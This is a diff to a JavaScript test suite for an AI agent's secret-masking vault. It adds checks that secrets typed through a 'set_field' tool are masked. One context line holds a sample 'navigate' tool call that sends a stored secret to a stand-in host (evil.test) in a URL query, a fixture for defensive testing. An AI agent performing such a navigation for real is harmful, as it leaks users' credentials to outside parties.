@@ -325,6 +325,10 @@ describe('secret vault (agent/safety/secrets.js)', () => {
     expect(/** @type {any} */ (maskSecretArgs(typed)).args.text).to.equal(MASK);
     expect(/** @type {any} */ (maskSecretArgs({ ...typed, result: { ok: true, data: { value: '(hidden)' } } })).args.text).to.equal(MASK);
     expect(/** @type {any} */ (maskSecretArgs({ ...typed, args: { ref: 'e1', text: `key ${API_KEY}` }, result: { ok: true, data: { value: 'x' } } })).args.text).to.equal(`key ${MASK}`);
+    // set_field types its value: into a secret field it is masked the same way.
+    const set = /** @type {any} */ ({ kind: 'tool', id: 't3', name: 'set_field', args: { ref: 'e4', value: 'hunter2-secret' }, result: { ok: true, data: { value: MASK } } });
+    expect(/** @type {any} */ (maskSecretArgs(set)).args.value).to.equal(MASK);
+    expect(/** @type {any} */ (maskSecretArgs({ ...set, args: { ref: 'e4', value: `key ${API_KEY}` }, result: { ok: true, data: { value: 'x' } } })).args.value).to.equal(`key ${MASK}`);
     const v = createSecretVault();
     v.add(['hunter2-secret'], BANK);
     const other = /** @type {any} */ ({ kind: 'tool', id: 't2', name: 'navigate', args: { url: 'https://evil.test/?p=hunter2-secret' }, result: { ok: true, data: null } });
